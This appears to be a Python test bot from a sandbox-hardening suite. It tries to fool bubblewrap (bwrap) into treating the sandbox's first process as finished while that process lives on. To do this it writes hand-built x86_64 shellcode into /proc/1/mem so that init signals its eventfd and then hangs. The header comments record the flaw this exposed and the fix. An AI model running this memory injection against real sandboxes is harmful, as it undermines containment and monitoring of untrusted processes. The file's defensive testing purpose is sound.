# story: makes the sandbox's first process tell bwrap that all is over, and lives on
# row: escape: ptrace of init and others
# expect: plays crashed startup - what it tells bwrap is taken for its end
# time: start=5s,move=2s
# before: what it held was not dropped at its end: 1,024 of 1,024 bits for its next life
# after: it is ended first, whatever bwrap says, and then what it has read is dropped
# not-bare: there is no first process
import os
import struct
import time
from contextlib import suppress

from hostile.honest import Act, answer, play

WRITE, PAUSE = 1, 34
"""Numbers of calls on x86_64, which the code below is for; elsewhere this bot only plays."""


def code(descriptor: int) -> bytes:
    """Writes 1 to a descriptor, eight bytes wide, and then waits for ever."""
    start = b"\xb8" + struct.pack("<I", WRITE) + b"\xbf" + struct.pack("<I", descriptor)
    size = b"\xba" + struct.pack("<I", 8) + b"\x0f\x05"
    wait = b"\xb8" + struct.pack("<I", PAUSE) + b"\x0f\x05" + b"\xeb\xf7"
    value = b"\x48\x8d\x35" + struct.pack("<i", len(size) + len(wait))  # lea rsi, [rip + ...]
    return start + value + size + wait + struct.pack("<Q", 1)


def events(folder: str) -> "list[int]":
    """The event counters that a process has open."""
    found = []
    for name in os.listdir(folder):
        with suppress(OSError):
            if "eventfd" in os.readlink(f"{folder}/{name}"):
                found.append(int(name))
    return found


def takes_over() -> None:
    with open("/proc/1/syscall") as file:
        where = int(file.read().split()[-1], 16)
    (descriptor,) = events("/proc/1/fd")
    memory = os.open("/proc/1/mem", os.O_RDWR)
    try:
        os.pwrite(memory, code(descriptor), where)
    finally:
        os.close(memory)


def misdeed(act: Act) -> None:
    if os.uname().machine == "x86_64":
        with suppress(OSError, ValueError, IndexError):
            takes_over()
            time.sleep(0.2)  # it wakes when it is asked for something: a child ends
    answer(act)


play(misdeed, only_in_a_sandbox=True)
